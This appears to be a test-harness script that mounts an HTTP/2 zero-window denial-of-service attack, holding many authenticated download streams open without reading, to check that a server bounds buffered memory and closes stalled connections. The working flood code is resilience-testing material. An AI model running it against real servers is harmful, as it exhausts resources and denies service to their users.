#!/usr/bin/env python3
"""Attack: a signed-in Browser user downloads BIG_ITEM (the harness uploads 10 MiB) over
ZERO_WINDOW_CONNS (default 50) HTTP/2 connections with ZERO_WINDOW_STREAMS (default 10)
streams each, announcing a zero flow-control window and never reading, reconnecting when
closed, for DURATION seconds.

The server may buffer at most Http2StreamBufferKB per stream and closes a connection whose
responses make no progress for SendTimeoutSeconds: server memory stays bounded. Prints
connections and streams opened and how many connections the server closed.
"""

import asyncio
import base64
import os
import sys
import time
import urllib.parse

import h2.config
import h2.connection
import h2.settings

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import _client as c  # noqa: E402

CONNS = int(c.env("ZERO_WINDOW_CONNS", "50"))
STREAMS = int(c.env("ZERO_WINDOW_STREAMS", "10"))


async def one(stats: dict, until: float) -> None:
    _, host, port = c.target()
    ctx = c.ssl_context()
    ctx.set_alpn_protocols(["h2"])
    user, pw = c.browser()
    auth = "Basic " + base64.b64encode(f"{user}:{pw}".encode()).decode()
    path = "/Reports/download" + urllib.parse.quote(c.env("BIG_ITEM", "/big.bin"))
    while time.monotonic() < until:
        try:
            r, w = await asyncio.open_connection("127.0.0.1", port, ssl=ctx, server_hostname=host)
        except Exception:
            await asyncio.sleep(0.5)
            continue
        stats["conns"] += 1
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        conn.local_settings = h2.settings.Settings(client=True, initial_values={h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
        conn.initiate_connection()
        for _ in range(STREAMS):
            sid = conn.get_next_available_stream_id()
            conn.send_headers(sid, [(":method", "GET"), (":scheme", "https"), (":authority", c.authority()),
                                    (":path", path), ("authorization", auth)], end_stream=True)
            stats["streams"] += 1
        w.write(conn.data_to_send())
        try:
            while time.monotonic() < until:
                data = await asyncio.wait_for(r.read(65536), timeout=max(0.1, until - time.monotonic()))
                if not data:
                    stats["closed"] += 1
                    break
                conn.receive_data(data)  # never acknowledges DATA: the window stays closed
                out = conn.data_to_send()
                if out:
                    w.write(out)
        except asyncio.TimeoutError:
            pass
        except Exception:
            stats["closed"] += 1
        w.close()


async def main() -> None:
    until = c.deadline()
    stats = {"conns": 0, "streams": 0, "closed": 0}
    await asyncio.gather(*(one(stats, until) for _ in range(CONNS)))
    print(f"zero-window-h2: connections={stats['conns']} streams={stats['streams']} closed_by_server={stats['closed']}", flush=True)


asyncio.run(main())
